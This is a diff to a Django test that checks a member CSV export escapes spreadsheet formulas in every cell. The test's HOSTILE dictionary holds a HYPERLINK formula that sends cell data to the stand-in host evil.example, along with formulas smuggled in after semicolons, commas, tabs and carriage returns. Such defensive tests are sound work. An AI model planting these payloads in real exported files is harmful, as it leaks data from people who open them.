@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
@@ -41,14 +42,37 @@ def test_the_export_streams_every_member_of_the_current_filter(dana):
     assert connection.schema_name  # the generator left no half-open cursor behind
 
 
-def test_the_export_neutralises_spreadsheet_formulas(dana):
+HOSTILE = {
+    "first_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "last_name": "a;=1",
+    "email": "x,+1",
+    "city": "@SUM(1+1)",
+    "place_name": "\t=1",
+    "region": "\r=1",
+}
+SEPARATORS = re.compile(r"[;,\t\r\n]")
+
+
+def _runnable_parts(cell: str) -> list[str]:
+    """The parts of a cell a spreadsheet would run, however it splits the cell: formulas, not phones."""
+    parts = [part.lstrip(" ") for part in SEPARATORS.split(cell)]
+    return [p for p in parts if p[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"\+[1-9]\d{7,14}", p)]
+
+
+def test_the_export_neutralises_every_part_of_every_cell_a_spreadsheet_could_run(dana):
     with schema_context(dana.schema_name):
-        builders.member(first_name='=HYPERLINK("http://x")', last_name="@SUM(1)", tags=["vip", "donor"])
-    rows = _rows(client_for(dana, "dmitri").get("/members/export.csv"))
-    assert rows[0]["first_name"].startswith("'=")
-    assert rows[0]["last_name"].startswith("'@")
-    assert rows[0]["phone"].startswith("+1")
-    assert rows[0]["tags"] == "vip;donor"
+        member = builders.member(**HOSTILE, tags=["vip", "@SUM(1)", "-2+3"])
+    [row] = _rows(client_for(dana, "dmitri").get("/members/export.csv"))
+    for name, cell in row.items():
+        assert _runnable_parts(cell) == [], (name, cell)
+    # Quoted, not rewritten: the text is all there after the quotes a spreadsheet hides.
+    assert row["first_name"] == "'" + HOSTILE["first_name"]
+    assert row["last_name"] == "a;'=1"
+    assert row["email"] == "x,'+1"
+    assert row["place_name"] == "\t'=1" and row["region"] == "\r'=1"
+    assert row["tags"] == "vip;'@SUM(1);'-2+3"
+    # Phones stay usable: an E.164 number cannot run anything.
+    assert row["phone"] == member.phone
 
 
 def _upload(text: str, name: str = "supporters.csv") -> SimpleUploadedFile:
